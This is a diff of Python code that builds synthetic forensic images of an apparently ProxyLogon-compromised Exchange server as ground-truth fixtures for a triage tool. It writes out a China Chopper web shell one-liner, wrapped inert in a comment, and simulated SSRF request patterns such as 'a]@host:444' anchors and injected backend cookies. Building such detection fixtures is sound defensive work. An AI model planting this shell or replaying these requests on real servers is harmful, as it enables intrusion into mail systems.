+    return (f'<%@ Page Language="C#" AutoEventWireup="false" Inherits="{inherits}" %>\n'
+            f"<%-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder standing in for the stock Exchange page --%>\n"
+            "<!DOCTYPE html>\n"
+            f"<html><head><meta charset=\"utf-8\"><title>{title}</title>"
+            "<link rel=\"stylesheet\" href=\"/owa/auth/Current/themes/resources/logon.css\"></head>\n"
+            f"<body><div id=\"main\">{title}</div></body></html>\n")
+
+
+def benign_config(comment: str) -> str:
+    return ('<?xml version="1.0" encoding="utf-8"?>\n'
+            f"<!-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder: {comment} -->\n"
+            "<configuration>\n"
+            "  <appSettings>\n"
+            '    <add key="LogonPageName" value="logon.aspx" />\n'
+            "  </appSettings>\n"
+            "  <system.web>\n"
+            '    <compilation debug="false" defaultLanguage="c#" targetFramework="4.8" />\n'
+            '    <customErrors mode="On" />\n'
+            "  </system.web>\n"
+            "</configuration>\n")
+
+
+def inert_wrap(body: str) -> str:
+    """Wrap shell-like content so IIS can never run it: one server-side comment, whole file."""
+    assert "--%>" not in body
+    return (f"<%-- {INERT_BANNER}. The whole file is one ASP.NET server-side comment: IIS\n"
+            "     discards it before compiling, so nothing below can run. No real malware here.\n"
+            f"{body}\n--%>\n")
+
+
+def oab_dump_shell(srv: Server, install_win: str) -> str:
+    d = srv.dom
+    body = "\n".join([
+        "",
+        f"Name                            : OAB (Default Web Site)",
+        "PollInterval                    : 480",
+        "OfflineAddressBooks             : \\Default Offline Address Book",
+        "RequireSSL                      : False",
+        "BasicAuthentication             : False",
+        "WindowsAuthentication           : True",
+        "OAuthAuthentication             : True",
+        f"MetabasePath                    : IIS://{srv.fqdn}/W3SVC/1/ROOT/OAB",
+        f"Path                            : {install_win}\\FrontEnd\\HttpProxy\\OAB",
+        "ExtendedProtectionTokenChecking : None",
+        "ExtendedProtectionFlags         : {}",
+        "ExtendedProtectionSPNList       : {}",
+        f"AdminDisplayVersion             : Version {srv.build[0]}.{srv.build[1]} (Build {srv.build[2]}.{srv.build[3]})",
+        f"Server                          : {srv.short}",
+        f"InternalUrl                     : https://{srv.fqdn}/OAB",
+        "InternalAuthenticationMethods   : {WindowsIntegrated}",
+        f"ExternalUrl                     : {CHOPPER_URL}",
+        "ExternalAuthenticationMethods   : {WindowsIntegrated}",
+        "AdminDisplayName                :",
+        "ExchangeVersion                 : 0.10 (14.0.100.0)",
+        f"DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={srv.short},CN=Servers,"
+        "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Corp,"
+        f"CN=Microsoft Exchange,CN=Services,CN=Configuration,DC={d.split('.')[0]},DC={d.split('.')[1]}",
+        f"Identity                        : {srv.short}\\OAB (Default Web Site)",
+        f"Guid                            : {srv.oab_vdir_guid}",
+        "ObjectCategory                  : corp.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory",
+        "ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}",
+        "WhenChanged                     : 3/3/2021 6:49:53 AM",
+        "WhenCreated                     : 11/12/2020 2:14:40 PM",
+        "OrganizationId                  :",
+        "Id                              : EXCH01\\OAB (Default Web Site)",
+        "OriginatingServer               : DC01.corp.local",
+        "IsValid                         : True",
+        "ObjectState                     : Unchanged",
+        "",
+    ])
+    return inert_wrap(body)
+
+
+def chopper_one_liner(key: str) -> str:
+    return inert_wrap('<%@ Page Language="Jscript"%><%eval(Request.Item["' + key + '"],"unsafe");%>')
+
+
+def regf_placeholder(name: str, stamp: dt.datetime, size: int = 8192) -> bytes:
+    """A registry *placeholder*: a plausible 4 KiB base block, then zeros. Not a real hive."""
+    ft = int((stamp - dt.datetime(1601, 1, 1, tzinfo=UTC)).total_seconds() * 10_000_000)
+    base = bytearray(4096)
+    struct.pack_into("<4sIIQIIIII", base, 0, b"regf", 1842, 1842, ft, 1, 5, 0, 1, 0x20)
+    struct.pack_into("<II", base, 0x28, 0x1000, 1)  # hive bins data size, clustering factor
+    fname = f"\\SystemRoot\\System32\\Config\\{name}".encode("utf-16-le")[:64]
+    base[0x30:0x30 + len(fname)] = fname
+    chk = 0
+    for i in range(0, 0x1FC, 4):
+        chk ^= struct.unpack_from("<I", base, i)[0]
+    struct.pack_into("<I", base, 0x1FC, chk)
+    comment = (f"EXTRIAGE SYNTHETIC SAMPLE - registry hive placeholder ({name}); "
+               "not a real hive, real ones come later").encode()
+    base[0x200:0x200 + len(comment)] = comment
+    return bytes(base) + b"\x00" * (size - len(base))
+
+
+def vendor_zip(entries: dict[str, str]) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
+        for name, text in entries.items():
+            info = zipfile.ZipInfo(name, date_time=(2020, 11, 4, 9, 12, 30))
+            info.compress_type = zipfile.ZIP_DEFLATED
+            info.external_attr = 0o644 << 16
+            z.writestr(info, text)
+    return buf.getvalue()
+
+
+def application_host_config(srv: Server, exch_prefix: str) -> str:
+    """exch_prefix: how physicalPath spells the install dir, with trailing backslash."""
+    fe = [("/owa", "MSExchangeOWAAppPool", "owa"), ("/ecp", "MSExchangeECPAppPool", "ecp"),
+          ("/EWS", "MSExchangeServicesAppPool", "EWS"),
+          ("/Autodiscover", "MSExchangeAutodiscoverAppPool", "autodiscover"),
+          ("/Microsoft-Server-ActiveSync", "MSExchangeSyncAppPool", "sync"),
+          ("/OAB", "MSExchangeOABAppPool", "OAB"),
+          ("/PowerShell", "MSExchangePowerShellFrontEndAppPool", "PowerShell"),
+          ("/mapi", "MSExchangeMapiFrontEndAppPool", "mapi")]
+    be = [("/owa", "MSExchangeOWAAppPool", "Owa"), ("/ecp", "MSExchangeECPAppPool", "ecp"),
+          ("/EWS", "MSExchangeServicesAppPool", "exchweb\\EWS"),
+          ("/Autodiscover", "MSExchangeAutodiscoverAppPool", "Autodiscover"),
+          ("/Microsoft-Server-ActiveSync", "MSExchangeSyncAppPool", "sync"),
+          ("/OAB", "MSExchangeOABAppPool", "OAB"),
+          ("/PowerShell", "MSExchangePowerShellAppPool", "PowerShell-Proxy"),
+          ("/mapi/emsmdb", "MSExchangeMapiMailboxAppPool", "mapi\\emsmdb")]
+    pools = sorted({p for _, p, _ in fe + be} | {"DefaultAppPool", "MSExchangeRpcProxyAppPool",
+                                                 "MSExchangeRpcProxyFrontEndAppPool"})
+    out = ['<?xml version="1.0" encoding="UTF-8"?>',
+           f"<!-- EXTRIAGE SYNTHETIC SAMPLE - trimmed applicationHost.config of {srv.short} -->",
+           "<configuration>",
+           "    <system.applicationHost>",
+           "        <applicationPools>"]
+    for p in pools:
+        out.append(f'            <add name="{p}" managedRuntimeVersion="v4.0" />')
+    out += ["            <applicationPoolDefaults managedRuntimeVersion=\"v4.0\">",
+            "                <processModel identityType=\"ApplicationPoolIdentity\" />",
+            "            </applicationPoolDefaults>",
+            "        </applicationPools>",
+            "        <log>",
+            '            <centralBinaryLogFile enabled="true" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />',
+            '            <centralW3CLogFile enabled="true" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />',
+            "        </log>",
+            "        <sites>",
+            '            <site name="Default Web Site" id="1" serverAutoStart="true">',
+            '                <application path="/" applicationPool="DefaultAppPool">',
+            '                    <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />',
+            "                </application>"]
+    for path, pool, d in fe:
+        out += [f'                <application path="{path}" applicationPool="{pool}">',
+                f'                    <virtualDirectory path="/" physicalPath="{exch_prefix}FrontEnd\\HttpProxy\\{d}" />',
+                "                </application>"]
+    out += ['                <application path="/Rpc" applicationPool="MSExchangeRpcProxyFrontEndAppPool">',
+            '                    <virtualDirectory path="/" physicalPath="%windir%\\System32\\RpcProxy" />',
+            "                </application>",
+            "                <bindings>",
+            '                    <binding protocol="http" bindingInformation="*:80:" />',
+            '                    <binding protocol="https" bindingInformation="*:443:" />',
+            "                </bindings>",
+            '                <logFile logFormat="W3C" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" enabled="true" />',
+            "            </site>",
+            '            <site name="Exchange Back End" id="2" serverAutoStart="true">',
+            '                <application path="/" applicationPool="DefaultAppPool">',
+            f'                    <virtualDirectory path="/" physicalPath="{exch_prefix}ClientAccess" />',
+            "                </application>"]
+    for path, pool, d in be:
+        out += [f'                <application path="{path}" applicationPool="{pool}">',
+                f'                    <virtualDirectory path="/" physicalPath="{exch_prefix}ClientAccess\\{d}" />',
+                "                </application>"]
+    out += ['                <application path="/Rpc" applicationPool="MSExchangeRpcProxyAppPool">',
+            '                    <virtualDirectory path="/" physicalPath="%windir%\\System32\\RpcProxy" />',
+            "                </application>",
+            "                <bindings>",
+            '                    <binding protocol="http" bindingInformation="*:81:" />',
+            '                    <binding protocol="https" bindingInformation="*:444:" />',
+            "                </bindings>",
+            '                <logFile logFormat="W3C" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" enabled="true" />',
+            "            </site>",
+            "            <siteDefaults>",
+            '                <logFile logFormat="W3C" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />',
+            '                <traceFailedRequestsLogging directory="%SystemDrive%\\inetpub\\logs\\FailedReqLogFiles" />',
+            "            </siteDefaults>",
+            '            <applicationDefaults applicationPool="DefaultAppPool" />',
+            '            <virtualDirectoryDefaults allowSubDirConfig="true" />',
+            "        </sites>",
+            "    </system.applicationHost>",
+            "</configuration>",
+            ""]
+    return "\n".join(out)
+
+
+def web_folders(tree: Tree, srv: Server, version_dir: str, fe_ews: str, ecp_auth_name: str) -> None:
+    fe = f"{srv.exch_rel}/FrontEnd/HttpProxy"
+    ca = f"{srv.exch_rel}/ClientAccess"
+    auth = f"{fe}/owa/auth"
+    pages = {
+        "logon.aspx": ("Outlook", "Microsoft.Exchange.HttpProxy.Logon"),
+        "errorFE.aspx": ("Something went wrong", "Microsoft.Exchange.HttpProxy.ErrorFE"),
+        "logoff.aspx": ("Outlook", "Microsoft.Exchange.HttpProxy.Logoff"),
+        "expiredpassword.aspx": ("Change password", "Microsoft.Exchange.HttpProxy.ExpiredPassword"),
+        "frowny.aspx": ("Something went wrong", "Microsoft.Exchange.HttpProxy.Frowny"),
+        "signout.aspx": ("Outlook", "Microsoft.Exchange.HttpProxy.Signout"),
+        "OutlookCN.aspx": ("Outlook", "Microsoft.Exchange.HttpProxy.OutlookCN"),
+        "RedirSuiteServiceProxy.aspx": ("Outlook", "Microsoft.Exchange.HttpProxy.RedirSuiteServiceProxy"),
+    }
+    for name, (title, inh) in pages.items():
+        tree.write_text(f"{auth}/{name}", benign_aspx(title, inh))
+    tree.write_text(f"{auth}/GetIdToken.htm",
+                    "<!DOCTYPE html>\n<!-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder -->\n"
+                    "<html><head><title>GetIdToken</title></head><body></body></html>\n")
+    tree.write_text(f"{auth}/Current/themes/resources/logon.css",
+                    "/* EXTRIAGE SYNTHETIC SAMPLE - benign placeholder */\n"
+                    "body { font-family: \"Segoe UI\", Tahoma, sans-serif; background: #fff; }\n"
+                    ".signInInputText { width: 100%; }\n")
+    tree.write_text(f"{auth}/{version_dir}/scripts/premium/flogon.js",
+                    "/* EXTRIAGE SYNTHETIC SAMPLE - benign placeholder */\n"
+                    "function clkLgn() { var f = document.forms[0]; if (f) { f.submit(); } }\n"
+                    "function setCookie(n, v) { document.cookie = n + '=' + v + '; path=/'; }\n")
+    tree.write_text(f"{auth}/{version_dir}/themes/resources/favicon.ico.txt",
+                    "EXTRIAGE SYNTHETIC SAMPLE - stands in for a theme image\n")
+    tree.write_text(f"{fe}/owa/web.config", benign_config("FrontEnd owa web.config"))
+    tree.write_text(f"{fe}/ecp/auth/{ecp_auth_name}",
+                    benign_aspx("Session timed out", "Microsoft.Exchange.HttpProxy.TimeoutLogoff"))
+    tree.write_text(f"{fe}/ecp/web.config", benign_config("FrontEnd ecp web.config"))
+    tree.write_text(f"{fe}/ecp/default.aspx", benign_aspx("Exchange admin center",
+                                                           "Microsoft.Exchange.HttpProxy.EcpDefault"))
+    tree.write_text(f"{fe}/{fe_ews}/web.config", benign_config("FrontEnd EWS web.config"))
+    tree.write_text(f"{fe}/{fe_ews}/Exchange.asmx",
+                    '<%@ WebService Language="C#" Class="Microsoft.Exchange.HttpProxy.EwsPlaceholder" %>\n'
+                    "<%-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder --%>\n")
+    tree.write_text(f"{fe}/OAB/web.config", benign_config("FrontEnd OAB web.config"))
+    tree.write_text(f"{ca}/Owa/web.config", benign_config("ClientAccess Owa web.config"))
+    tree.write_text(f"{ca}/Owa/default.aspx", benign_aspx("Outlook", "Microsoft.Exchange.Clients.Owa.Default"))
+    tree.write_text(f"{ca}/ecp/web.config", benign_config("ClientAccess ecp web.config"))
+    tree.write_text(f"{ca}/ecp/default.aspx", benign_aspx("Exchange admin center",
+                                                           "Microsoft.Exchange.Management.ControlPanel.Default"))
+    tree.write_text(f"{ca}/OAB/web.config", benign_config("ClientAccess OAB web.config"))
+    tree.write_text(f"{ca}/OAB/{srv.oab_guid}/oab.xml",
+                    '<?xml version="1.0" encoding="utf-8"?>\n'
+                    "<!-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder -->\n"
+                    '<OAB><OAL id="' + srv.oab_guid + '" dn="/" name="\\Default Global Address List">'
+                    '<Full seq="412" ver="32" size="18342" uncompressedsize="61440" SHA="0">'
+                    f"{srv.oab_guid}-data-412.lzx</Full></OAL></OAB>\n")
+    tree.write_text(f"{ca}/Autodiscover/web.config", benign_config("ClientAccess Autodiscover web.config"))
+    tree.write_text(f"{ca}/Autodiscover/Autodiscover.svc",
+                    '<%@ ServiceHost Service="Microsoft.Exchange.Autodiscover.PlaceholderService" %>\n')
+
+
+def wwwroot(tree: Tree) -> None:
+    tree.write_text("inetpub/wwwroot/iisstart.htm",
+                    "<!DOCTYPE html>\n<!-- EXTRIAGE SYNTHETIC SAMPLE - benign IIS start page placeholder -->\n"
+                    "<html><head><title>IIS Windows Server</title></head>\n"
+                    "<body><img src=\"iisstart.png\" alt=\"IIS\" width=\"960\" height=\"600\"></body></html>\n")
+    tree.write_text("inetpub/wwwroot/web.config",
+                    '<?xml version="1.0" encoding="UTF-8"?>\n'
+                    "<!-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder -->\n"
+                    "<configuration>\n    <system.webServer>\n"
+                    '        <httpRedirect enabled="false" />\n'
+                    "        <defaultDocument>\n            <files>\n"
+                    '                <add value="iisstart.htm" />\n'
+                    "            </files>\n        </defaultDocument>\n"
+                    "    </system.webServer>\n</configuration>\n")
+    tree.write_bytes("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/.gitkeep", b"")
+
+
+# --------------------------------------------------------------------------------------
+# Image 1: Exchange 2016 CU19, compromised
+# --------------------------------------------------------------------------------------
+
+T_CONFIRMED, T_LIKELY, T_ATTEMPT, T_INFO, T_NONE = "confirmed", "likely", "attempt-only", "informational", "none (must not fire)"
+
+
+def d(y, mo, da, h=0, mi=0, s=0, ms=0) -> dt.datetime:
+    return dt.datetime(y, mo, da, h, mi, s, ms * 1000, tzinfo=UTC)
+
+
+def make_compromised(root: pathlib.Path) -> Tree:
+    tree = Tree(root)
+    rng = random.Random(20210303)
+    dom_sid = "S-1-5-21-1004336348-1177238915-682003330"
+    srv = Server(
+        short="EXCH01", fqdn="exch01.corp.local", ip="10.0.0.10", ext_host="mail.corp.example",
+        dom="corp.local", netbios="CORP", domain_sid=dom_sid, build=(15, 1, 2176, 2),
+        exch_rel="Program Files/Microsoft/Exchange Server/V15",
+        exch_win=r"C:\Program Files\Microsoft\Exchange Server\V15",
+        folders={"Autodiscover": "Autodiscover", "Eas": "Eas", "Ecp": "Ecp", "Ews": "Ews",
+                 "Mapi": "Mapi", "Oab": "Oab", "Owa": "Owa", "PowerShell": "PowerShell"},
+        health="HealthMailboxd6a1f0c2e2b94c1b8a7f3e5d4c2b1a09",
+        health_guid="0d5b3a8e-2f6c-4e1a-9b7d-5c3e1f2a4b6d",
+        oab_guid="3f2a9c1e-7b4d-4e8a-a1c5-9d0e6f2b8c47",
+        oab_vdir_guid="6c1f5e2a-9b3d-4f7e-8a21-3d5c9e0b7f14",
+        users={}, rng=rng, os_build="5.1.14393.4169")
+    chrome88 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+                "Chrome/88.0.4324.190 Safari/537.36")
+    outlook = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)"
+    srv.users = {
+        "jdoe": User("jdoe", 1108, "10.0.1.25", chrome88, outlook, "8b2c4e6a-1d3f-4a5b-9c7e-0f1a2b3c4d5e"),
+        "msmith": User("msmith", 1112, "10.0.1.31",
+                       "Mozilla/5.0 (Macintosh; Intel Mac OS X 11_2_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Safari/605.1.15",
+                       "MacOutlook/16.46.21021202 (Intelx64 Mac OS X 11.2.1 (Build 20D74))",
+                       "2e4f6a8c-0b1d-4e3f-8a5c-7e9b1d3f5a7c"),
+        "akhan": User("akhan", 1125, "10.0.2.14",
+                      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36 Edg/88.0.705.81",
+                      outlook, "5a7c9e1b-3d5f-4b7a-9c1e-3f5a7b9d1e3f"),
+        "lchen": User("lchen", 1131, "100.64.12.9", "", "Apple-iPhone12C1/1802.67",
+                      "9c1e3a5b-7d9f-4c1e-8b3d-5f7a9c1e3b5d"),
+        "exadmin": User("exadmin", 1105, "10.0.0.50", chrome88, outlook, "1f3b5d7a-9c2e-4f6a-8d0b-2c4e6a8b0d1f"),
+    }
+    ver = srv.ver_int
+    exw = srv.exch_win
+
+    # ---- ordinary traffic: 2021-03-02 00:00 .. 2021-03-03 09:50 (image taken ~09:50 UTC) ----
+    reqs = ordinary_traffic(srv, d(2021, 3, 2, 0), d(2021, 3, 3, 9, 50))
+    admin_canary = "Qm3vL8sT1xWz0pR6yK4nB2cF9hD5gJ7aE3uI0oP8qS1tV6wX4zY2bN9mC7lA5kH3jG."
+    reqs += admin_ecp(srv, srv.users["exadmin"], d(2021, 3, 3, 8, 36, 12, 455), admin_canary)
+    reqs += [admin_ps(srv, srv.users["exadmin"], d(2021, 3, 3, 8, 41, 2, 118), "Get-ExchangeServer:Command"),
+             admin_ps(srv, srv.users["exadmin"], d(2021, 3, 3, 8, 41, 9, 730), "Get-Mailbox:Command"),
+             admin_ps(srv, srv.users["exadmin"], d(2021, 3, 3, 8, 43, 27, 301), "Get-OabVirtualDirectory:Command")]
+
+    # ---- scanner 198.51.100.23: autodiscover-only SSRF + Nmap localhost probe (attempt-only) ----
+    scan_ip = "198.51.100.23"
+    t_sc = Trace("C03", "CVE-2021-26855 SSRF from scanner 198.51.100.23, target autodiscover only, nothing later",
+                 "CVE-2021-26855 / T1190", T_ATTEMPT)
+    for t in (d(2021, 3, 3, 5, 14, 22, 318), d(2021, 3, 3, 5, 14, 23, 105)):
+        reqs.append(Req(end=t, proto="Ecp", method="POST", stem="/ecp/kq.js", host=srv.ip,
+                        ua=chrome88, cip=scan_ip,
+                        anchor=f"ServerInfo~a]@{srv.fqdn}:444/autodiscover/autodiscover.xml?#",
+                        routing_type="", routing_hint="X-BEResource-Cookie",
+                        target_server=f"a]@{srv.fqdn}:444/autodiscover/autodiscover.xml?#",
+                        be_stem="/autodiscover/autodiscover.xml", be_query="",
+                        be_user="CORP\\EXCH01$", latency=rng.randint(60, 140),
+                        proxy_trace=t_sc,
+                        iis_trace=Trace("C12", "POST /ecp/kq.js (Metasploit-style /ecp/<1-3>.js stem) from scanner",
+                                        "CVE-2021-26855 / T1190", T_ATTEMPT + " (C03 grade; stem alone)")))
+    nmap_ua = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
+    reqs.append(Req(end=d(2021, 3, 3, 5, 16, 40, 871), proto="Owa", method="GET", stem="/owa/auth/x.js",
+                    host=srv.ip, ua=nmap_ua, cip=scan_ip, status=500, proxied=False,
+                    anchor="ServerInfo~localhost/ecp/default.flt?",
+                    routing_hint="X-AnonResource-Backend-Cookie", owa_encoding=True, latency=31,
+                    error_code="ServerNotFound",
+                    generic_errors=("ProxyState-Error=ServerNotFound;WebException=System.Net.WebException: "
+                                    "Unable to connect to the remote server, inner: localhost:443; "
+                                    "ServerNotFoundException: Server localhost, not found"),
+                    proxy_trace=Trace("C03", "Nmap NSE localhost probe (ServerInfo~localhost, X-AnonResource-Backend-Cookie, 500)",
+                                      "CVE-2021-26855 / T1190", T_ATTEMPT),
+                    iis_trace=Trace("C12", "GET /owa/auth/x.js answered 500 (NSE probe stem)",
+                                    "CVE-2021-26855 / T1190", T_ATTEMPT)))
+
+    # ---- attacker 203.0.113.45: the full ProxyLogon chain on /ecp/y.js ----
+    atk = "203.0.113.45"
+    py = "python-requests/2.25.1"
+    canary = "vCzL0rRnZ0y3x8mZq6JkP9tYwF2aB7cD1eG4hI5jK6lM8nO0pQ2rS4tU6vW8xY0zAbCdEfGhIjKlMn."
+    stages = [
+        (d(2021, 3, 3, 6, 49, 42, 162), "ExchangeServicesClient/0.0.0.0",
+         "/autodiscover/autodiscover.xml?#", "/autodiscover/autodiscover.xml", "", 200,
+         "stage 1 autodiscover.xml (LegacyDN leak)", T_CONFIRMED + " (chain; alone: attempt-only)"),
+        (d(2021, 3, 3, 6, 49, 43, 699), py, "/mapi/emsmdb/?#", "/mapi/emsmdb/", "", 200,
+         "stage 2 /mapi/emsmdb (SID leak)", T_LIKELY),
+        (d(2021, 3, 3, 6, 49, 46, 210), py, "/ecp/proxyLogon.ecp?#", "/ecp/proxyLogon.ecp", "", 241,
+         "stage 3 /ecp/proxyLogon.ecp answered 241", T_CONFIRMED),
+        (d(2021, 3, 3, 6, 49, 51, 543), py,
+         f"/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
+         "/ecp/DDI/DDIService.svc/GetObject", f"msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200,
+         "stage 4 DDIService GetObject schema=OABVirtualDirectory", T_CONFIRMED),
+        (d(2021, 3, 3, 6, 49, 53, 841), py,
+         f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
+         "/ecp/DDI/DDIService.svc/SetObject", f"msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200,
+         "stage 5 SetObject schema=OABVirtualDirectory (ExternalUrl set to script)", T_CONFIRMED),
+        (d(2021, 3, 3, 6, 49, 57, 689), py,
+         f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory#",
+         "/ecp/DDI/DDIService.svc/SetObject", f"msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory", 200,
+         "stage 6 SetObject schema=ResetOABVirtualDirectory (file written) = Test-ProxyLogon ResetVDir row",
+         T_CONFIRMED),
+        (d(2021, 3, 3, 6, 49, 58, 902), py,
+         f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#",
+         "/ecp/DDI/DDIService.svc/SetObject", f"msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200,
+         "stage 7 SetObject again (ExternalUrl cleared)", T_CONFIRMED),
+    ]
+    chain_reqs = []
+    # Request durations chosen so that each stage's [BeginRequest, EndRequest] brackets the
+    # ECP Server/Activity rows it caused, and the stages do not overlap (one python client).
+    stage_latency = [282, 485, 355, 250, 180, 1500, 150]
+    for i, (t, ua, target, be_stem, be_query, status, what, tier) in enumerate(stages):
+        is_reset = "ResetOABVirtualDirectory" in target
+        r = Req(end=t, proto="Ecp", method="POST", stem="/ecp/y.js", host=srv.ext_host, ua=ua, cip=atk,
+                status=status, anchor=f"ServerInfo~a]@{srv.fqdn}:444{target}",
+                target_server=f"a]@{srv.fqdn}:444{target}", routing_type="",
+                routing_hint="X-BEResource-Cookie", be_stem=be_stem, be_query=be_query,
+                be_user="CORP\\EXCH01$", latency=stage_latency[i],
+                req_bytes=rng.randint(300, 2200), resp_bytes=rng.randint(200, 4000),
+                proxy_trace=Trace("C03/C04" + ("/C06" if is_reset else ""),
+                                  f"CVE-2021-26855 SSRF chain from 203.0.113.45, {what}",
+                                  "CVE-2021-26855" + (", CVE-2021-27065" if i >= 4 else "") + " / T1190",
+                                  tier),
+                iis_trace=Trace("C12/C04", f"POST /ecp/y.js {status} from 203.0.113.45 ({ua}); cafeReqId joins HttpProxy ({what.split(' (')[0]})",
+                                "CVE-2021-26855 / T1190", T_LIKELY),
+                be_trace=(Trace("C06", "W3SVC2 POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory 200 by CORP\\EXCH01$",
+                                "CVE-2021-27065 / T1190, T1505.003", T_CONFIRMED) if is_reset else
+                          Trace("C04", f"W3SVC2 back-end request of the chain by CORP\\EXCH01$ ({what.split(' (')[0]})",
+                                "CVE-2021-26855 / T1190", "context (C04 evidence)")))
+        chain_reqs.append(r)
+    reqs += chain_reqs
+
+    # Mailbox access through SSRF with an injected BackEndCookie (no ServerInfo~ anchor): CSS-Exchange #310.
+    reqs.append(Req(end=d(2021, 3, 3, 7, 14, 3, 377), proto="Ecp", method="POST", stem="/ecp/y.js",
+                    host=srv.ext_host, ua=py, cip=atk, anchor="",
+                    routing_type="", routing_hint="BackEndCookie",
+                    backend_cookie=f"Server~a]@{srv.fqdn}:444/EWS/Exchange.asmx?#~{ver}",
+                    target_server=f"a]@{srv.fqdn}:444/EWS/Exchange.asmx?#",
+                    be_stem="/EWS/Exchange.asmx", be_query="", be_user="CORP\\EXCH01$",
+                    latency=1688, req_bytes=1410, resp_bytes=48211,
+                    proxy_trace=Trace("C03", "SSRF via injected BackEndCookie Server~a]@.../EWS/Exchange.asmx?#~<ver> (no ServerInfo~ anchor), 200",
+                                      "CVE-2021-26855 / T1190, T1114.002", T_LIKELY + " (confirmed via the C04 chain, same IP within 30 min)"),
+                    iis_trace=Trace("C12", "POST /ecp/y.js 200 python-requests/2.25.1 (EWS mailbox access)",
+                                    "CVE-2021-26855 / T1190", T_LIKELY)))
+
+    # ---- shell use (IIS). aspnet_client is served by the site root: no HttpProxy row, no suffix ----
+    oab_shell = "qGtWmKzP.aspx"
+    chopper2 = "discover.aspx"
+    shell_ua = chrome88
+    def iis_only(t, method, stem, ua, status, trace, cip=atk, lat=None, sub=0, w32=0):
+        return Req(end=t, proto=None, method=method, stem=stem, ua=ua, cip=cip, status=status,
+                   substatus=sub, win32=w32, latency=lat or rng.randint(20, 400), iis_trace=trace)
+    reqs += [
+        iis_only(d(2021, 3, 3, 7, 2, 37, 410), "GET", f"/aspnet_client/system_web/{oab_shell}", py, 200,
+                 Trace("C12", f"GET 200 of the planted OAB-dump shell {oab_shell}, empty query", "T1505.003", T_LIKELY)),
+        iis_only(d(2021, 3, 3, 7, 3, 5, 72), "POST", f"/aspnet_client/system_web/{oab_shell}", shell_ua, 200,
+                 Trace("C12", f"POST 200 to confirmed shell {oab_shell} (Chopper command)", "CVE-2021-27065 / T1505.003", T_CONFIRMED)),
+        iis_only(d(2021, 3, 3, 7, 3, 19, 640), "POST", f"/aspnet_client/system_web/{oab_shell}", shell_ua, 200,
+                 Trace("C12", f"POST 200 to confirmed shell {oab_shell}", "CVE-2021-27065 / T1505.003", T_CONFIRMED)),
+        iis_only(d(2021, 3, 3, 7, 4, 2, 5), "POST", f"/aspnet_client/system_web/{oab_shell}", shell_ua, 200,
+                 Trace("C12", f"POST 200 to confirmed shell {oab_shell} (writes the other two shells)", "T1505.003", T_CONFIRMED)),
+        iis_only(d(2021, 3, 3, 7, 8, 55, 301), "GET", f"/aspnet_client/{chopper2}", py, 200,
+                 Trace("C12", f"GET 200 of planted Chopper {chopper2}", "T1505.003", T_LIKELY)),
+        iis_only(d(2021, 3, 3, 7, 9, 12, 847), "POST", f"/aspnet_client/{chopper2}", "antSword/v2.1", 200,
+                 Trace("C12", f"POST 200 to confirmed shell {chopper2}, user agent antSword/v2.1", "T1505.003", T_CONFIRMED)),
+        iis_only(d(2021, 3, 3, 7, 20, 38, 114), "POST", f"/aspnet_client/{chopper2}", "antSword/v2.1", 200,
+                 Trace("C12", f"POST 200 to {chopper2} at 07:20:38, 3 s before root\\lsass.dmp's TimeDateStamp", "T1505.003, T1003.001", T_CONFIRMED)),
+    ]
+    owa_shell = "/owa/auth/RedirSuiteServerProxy.aspx"
+    for t, method, status, trace in [
+        (d(2021, 3, 3, 7, 5, 41, 233), "GET", 200,
+         Trace("C12", "GET 200 of look-alike shell RedirSuiteServerProxy.aspx (HttpProxy Owa row + IIS)", "T1505.003", T_LIKELY)),
+        (d(2021, 3, 3, 7, 6, 10, 518), "POST", 200,
+         Trace("C12", "POST 200 to confirmed shell RedirSuiteServerProxy.aspx", "T1505.003", T_CONFIRMED)),
+        (d(2021, 3, 3, 7, 6, 44, 90), "POST", 200,
+         Trace("C12", "POST 200 to confirmed shell RedirSuiteServerProxy.aspx", "T1505.003", T_CONFIRMED)),
+    ]:
+        reqs.append(Req(end=t, proto="Owa", method=method, stem=owa_shell, host=srv.ext_host, ua=shell_ua,
+                        cip=atk, status=status, proxied=False, owa_encoding=True, latency=rng.randint(30, 160),
+                        iis_trace=trace,
+                        proxy_trace=Trace("C12", f"HttpProxy Owa {method} {status} to RedirSuiteServerProxy.aspx from 203.0.113.45",
+                                          "T1505.003", trace.tier)))
+
